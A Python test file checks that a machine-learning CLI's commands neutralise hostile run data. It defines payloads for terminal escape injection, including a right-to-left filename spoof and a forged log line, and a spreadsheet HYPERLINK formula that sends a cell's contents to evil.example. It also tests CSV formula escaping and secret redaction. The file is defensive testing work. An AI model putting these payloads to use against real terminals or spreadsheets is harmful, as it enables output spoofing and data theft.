"""A run that somebody else has made up to deceive: no command lets it speak to the terminal or to a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import shutil
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from grokcore.cli import main
from grokcore.errors import InputError, redacted
from grokcore.reporting.exports import csv_cell
from grokcore.runs import read_manifest
from grokcore.storage import FileStore, local_path
from grokcore.storage.local import home_relative
from tests.faults.dying import in_child

ROW = "names that a terminal or a spreadsheet would obey"
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.exe\r\nforged line\x00"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def with_evil(value: Any, path: str = "") -> Any:
    """A manifest with EVIL in each text that its reader leaves free."""
    if isinstance(value, dict):
        return {name: with_evil(item, f"{path}.{name}") for name, item in value.items()}
    kept = (".exit_reason", ".model.files", ".dataset.id", ".run_id", ".choices.architecture")
    return f"{value}{EVIL}" if isinstance(value, str) and path not in kept else value


@pytest.fixture
def hostile(tmp_path: Path, smoke_run: Path, smoke_data: Path) -> Path:
    """Runs in a folder; of one the manifest is made up, of another the name, of a third the checkpoints' folder."""
    top = tmp_path / "runs"
    for name in (FORMULA.replace("/", "_"), "evil\x1b[31m", "plain"):
        shutil.copytree(smoke_run, top / name)
    manifest = top / "plain" / "manifest.json"
    document = with_evil(json.loads(manifest.read_text()))
    document["dataset"]["uri"] = str(smoke_data)
    document["choices"]["task.kind"] = EVIL
    manifest.write_text(json.dumps(document))
    (top / "plain" / "checkpoints" / f".{EVIL.replace('/', '')[:40].replace(chr(0), '')}.tmp").write_text("")
    (top / "plain" / f".evil{chr(27)}[31m.tmp").write_text("")
    return top


def checked(text: str, where: str) -> None:
    bad = {character for character in text if character != "\n" and not character.isprintable()}
    assert not bad, f"{where}: {[unicodedata.name(character, repr(character)) for character in bad]}"
    assert "\nforged line" not in text, where


@pytest.mark.fault(ROW, 1)
def test_no_output_of_any_command_obeys_a_run(
    hostile: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    plain, named = hostile / "plain", hostile / "evil\x1b[31m"
    out = tmp_path / "out"
    commands = [
        ["runs", "list", str(hostile)],
        ["runs", "list", str(hostile), "--json"],
        *(["runs", "show", str(run), *more] for run in hostile.iterdir() for more in ([], ["--json"])),
        ["compare", *map(str, hostile.iterdir()), "--out", str(out / "comparison")],
        ["compare", str(named), "--out", str(out / "one")],
        ["report", *map(str, hostile.iterdir()), "--out", str(out / "report.html")],
        ["watch", str(plain)],
        ["watch", str(named)],
        ["watch", *map(str, hostile.iterdir())],
        ["evaluate", str(plain)],
        ["evaluate", str(named)],
        ["claims", *map(str, hostile.iterdir())],
        ["spec", str(plain / "spec.yaml")],
        ["spec", f"name: {json.dumps(EVIL)}\n"],
        [
            "train",
            "smoke",
            "--data",
            EVIL.replace("\0", ""),
            "--out",
            str(out / EVIL.replace("\0", "").replace("/", "")),
        ],
        ["generate", "smoke", "--out", str(plain)],
        ["runs", "delete", str(plain), "--leftovers", "--yes"],
        ["runs", "delete", str(named), "--yes"],
    ]
    for command in commands:
        capfd.readouterr()
        code = in_child(lambda command=command: _leave(main(command)))
        said = capfd.readouterr()
        where = " ".join(command[:2])
        assert code in (0, 2), f"{where} ended with {code}: {said.err[-500:]}"
        checked(said.out, where)
        checked(said.err, where)
    tables = list(out.rglob("*.csv"))
    assert tables
    for table in tables:
        for row in csv.reader(io.StringIO(table.read_text("utf-8"))):
            assert not any(cell.lstrip().startswith(("=", "@", "|")) for cell in row), table


def _leave(code: int) -> None:
    import os
    import sys

    sys.stdout.flush()
    os._exit(code)


def test_every_command_prints_through_one_function() -> None:
    root = Path(__file__).parents[2] / "grokcore"
    files = [file for room in ("cli", "terminal") for file in (root / room).rglob("*.py")]
    allowed = {"output.py": 2, "main.py": 1, "runs.py": 1}
    import re

    found = {file.name: len(re.findall(r"(?<![\w.])print\(", file.read_text("utf-8"))) for file in files}
    assert {name: number for name, number in found.items() if number} == allowed


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "|calc", "%0A=1"])
def test_a_cell_that_would_be_a_formula_is_text(text: str) -> None:
    assert csv_cell(text) == f"'{text}"
    assert csv_cell("gpt2") == "gpt2"
    assert csv_cell(None) is None


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("cannot reach https://me:secret@host:1/x?y=1: no", "cannot reach https://***@host:1/x?y=1: no"),
        ("s3://b/k?X-Amz-Signature=abc&v=1", "s3://b/k?X-Amz-Signature=***&v=1"),
        ("https://h/?token=a&api_key=b&n=2", "https://h/?token=***&api_key=***&n=2"),
        ("https://h/#/runs/details/1", "https://h/#/runs/details/1"),
        ("me@example.org wrote", "me@example.org wrote"),
    ],
)
def test_what_a_url_may_keep_secret_is_left_out_of_messages(text: str, shown: str) -> None:
    assert redacted(text) == shown
    assert str(InputError(text)) == shown


def test_a_manifest_names_its_data_below_the_home_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "alice"))
    place = str(tmp_path / "alice" / "data")
    assert home_relative(place) == "~/data"
    assert local_path(home_relative(place)) == Path(place)
    assert home_relative("s3://bucket/alice") == "s3://bucket/alice"
    assert home_relative(f"{tmp_path}/alice2") == f"{tmp_path}/alice2"
    monkeypatch.setenv("HOME", "/")
    assert home_relative("/data") == "/data"


def test_a_run_that_is_trained_from_home_does_not_tell_whose_it_is(
    tmp_path: Path, smoke_spec: Any, smoke_data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import grokcore

    home = tmp_path / "alice"
    shutil.copytree(smoke_data, home / "data")
    monkeypatch.setenv("HOME", str(home))
    grokcore.train_model(smoke_spec, home / "data", home / "run")
    assert read_manifest(FileStore(home / "run")).dataset.uri == "~/data"
    assert str(home) not in (home / "run" / "manifest.json").read_text()
    grokcore.evaluate_model(home / "run")
